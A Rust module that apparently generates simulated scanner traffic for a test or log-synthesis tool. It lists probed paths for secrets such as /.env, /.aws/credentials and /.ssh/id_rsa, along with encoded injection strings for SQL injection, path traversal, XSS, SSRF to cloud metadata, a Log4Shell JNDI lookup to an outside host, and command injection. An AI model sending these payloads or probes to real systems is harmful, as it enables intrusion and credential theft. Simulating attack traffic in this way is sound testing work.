//! Scanners: lists of forgotten files, SYN sweeps, banner grabs, injection tries.

use std::sync::Arc;

use super::super::event::{Client, Request, Side};
use super::super::networks::{self, Block};
use super::super::program::Program;
use super::super::session::Session;
use super::super::site::{SERVER_V4, SHOP, WWW};
use super::super::syn::{self, Seen, Syn};
use super::super::tools;
use super::crawlers::machine;

/// What scanners ask for: paths of public scanner templates and word lists.
pub(in super::super) static PATHS: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-json/wp/v2/users",
    "/wp-content/debug.log",
    "/phpmyadmin/index.php",
    "/admin/",
    "/administrator/index.php",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/config.php.bak",
    "/backup.zip",
    "/db.sql",
    "/dump.sql.gz",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/boaform/admin/formLogin",
    "/manager/html",
    "/solr/admin/info/system",
    "/telescope/requests",
    "/debug/pprof/",
    "/.DS_Store",
    "/.svn/entries",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/login.action",
    "/api/swagger.json",
    "/v2/_catalog",
    "/console/",
    "/HNAP1/",
    "/old/",
    "/test.php",
    "/info.php",
    "/shell.php",
    "/.vscode/sftp.json",
];

/// Query strings of injection tools, percent-encoded as they are sent.
static INJECTIONS: &[&str] = &[
    "id=1%27%20OR%20%271%27%3D%271",
    "id=1%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
    "id=1%20AND%20SLEEP%285%29",
    "id=1%29%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
    "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    "name=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.250%2Fa%7D",
    "id=1%27%20AND%20EXTRACTVALUE%281%2CCONCAT%280x7e%2CVERSION%28%29%29%29--",
    "cmd=%3Bcat%20%2Fetc%2Fpasswd",
];

/// How a scanner goes about it.
#[derive(Clone, Copy)]
enum Method {
    /// Walks the path list over TLS.
    Paths,
    /// Walks the path list against the bare address.
    BarePaths,
    /// Tries injections on one page.
    Injections,
    /// Greets in clear text and leaves.
    Banner,
    /// Completes the TLS handshake, reads the certificate and leaves.
    Handshake,
    /// Sends SYNs and never completes the connection.
    Sweep,
}

static SCANNERS: &[(u32, &Program, &Syn, &Block, Method)] = &[
    (5, &tools::NUCLEI, &syn::LINUX_SERVER, &networks::VPS, Method::Paths),
    (3, &tools::NUCLEI, &syn::LINUX_SERVER, &networks::UNKNOWN, Method::BarePaths),
    (3, &tools::GOBUSTER, &syn::LINUX, &networks::HOSTING, Method::Paths),
    (2, &tools::WPSCAN, &syn::LINUX, &networks::CLOUD, Method::Paths),
    (3, &tools::REQUESTS, &syn::LINUX_SERVER, &networks::UNKNOWN, Method::BarePaths),
    (2, &tools::CURL, &syn::LINUX_SERVER, &networks::CLOUD_APAC, Method::BarePaths),
    (1, &tools::WGET, &syn::LINUX_SERVER, &networks::HOSTING, Method::BarePaths),
    (3, &tools::SQLMAP, &syn::LINUX, &networks::HOSTING, Method::Injections),
    (4, &tools::ZGRAB, &syn::LINUX_SERVER, &networks::CLOUD, Method::Banner),
    (4, &tools::MASSCAN, &syn::MASSCAN, &networks::UNKNOWN, Method::Banner),
    (3, &tools::ZGRAB, &syn::ZMAP, &networks::CLOUD, Method::Sweep),
    (2, &tools::ZGRAB, &syn::LINUX_SERVER, &networks::CLOUD, Method::Handshake),
    (3, &tools::NMAP, &syn::NMAP, &networks::DISCREET, Method::Sweep),
];

/// Machines per kind of scanner at the natural size.
const MACHINES: u64 = 4;

/// One gust of one scanner.
pub(super) fn session(session: &mut Session<'_>) {
    let kind = session.rng.weighted_index(SCANNERS, |s| s.0);
    let (_, program, syn, block, method) = SCANNERS[kind];
    let count = session.pool(MACHINES);
    let index = session.rng.below(count);
    // Numbers of their own for each kind that rents in the same place.
    let number = kind as u64 * 500 + index;
    let client = machine(block.machine(number), program, Seen::from_server(syn, number));
    match method {
        Method::Paths => {
            let requests = session.rng.between(24, 60);
            paths(session, &client, requests, false);
        }
        Method::BarePaths => {
            let requests = session.rng.between(12, 40);
            paths(session, &client, requests, true);
        }
        Method::Injections => injections(session, &client),
        Method::Banner => banner(session, &client),
        Method::Handshake => probe(session, &client, Side::Connection),
        Method::Sweep => probe(session, &client, Side::Syn),
    }
}

/// Asks for one path after the other on few connections.
pub(in super::super) fn paths(
    session: &mut Session<'_>,
    client: &Arc<Client>,
    requests: u64,
    bare: bool,
) {
    let host = if bare { SERVER_V4 } else { session.rng.pick(&[WWW, SHOP]) };
    let connect = if bare { Session::connect_bare } else { Session::connect };
    let mut connection = connect(session, client);
    let first = session.rng.below(PATHS.len() as u64);
    let mut at = session.start_ms;
    for place in 0..requests {
        if place % 10 == 9 {
            connection = connect(session, client);
        }
        let path = PATHS[((first + place) % PATHS.len() as u64) as usize];
        let status = if session.rng.percent(4) { 403 } else { 404 };
        let request = Request::page(host, path).answered(status, 548);
        session.send(at, client, &mut connection, request);
        at += 60 + session.rng.wait(240);
    }
}

fn injections(session: &mut Session<'_>, client: &Arc<Client>) {
    let mut at = session.start_ms;
    for _ in 0..session.rng.between(20, 45) {
        let mut connection = session.connect(client);
        let query = session.rng.pick(INJECTIONS);
        let salt = session.rng.below(10_000);
        let status = if session.rng.percent(12) { 500 } else { 403 };
        let request = Request::page(SHOP, "/search")
            .query(format!("{query}&r={salt}"))
            .answered(status, 1_204);
        session.send(at, client, &mut connection, request);
        at += 150 + session.rng.wait(500);
    }
}

fn banner(session: &mut Session<'_>, client: &Arc<Client>) {
    for place in 0..session.rng.between(2, 5) {
        let mut connection = session.connect(client);
        let at = session.start_ms + place * (400 + session.rng.wait(3_000));
        let request = Request::page(SERVER_V4, "/").answered(301, 162);
        session.send_clear(at, client, &mut connection, request);
    }
}

fn probe(session: &mut Session<'_>, client: &Arc<Client>, side: Side) {
    for _ in 0..session.rng.between(3, 8) {
        let at = session.start_ms + session.rng.wait(4_000);
        session.probe(at, client, side);
    }
}
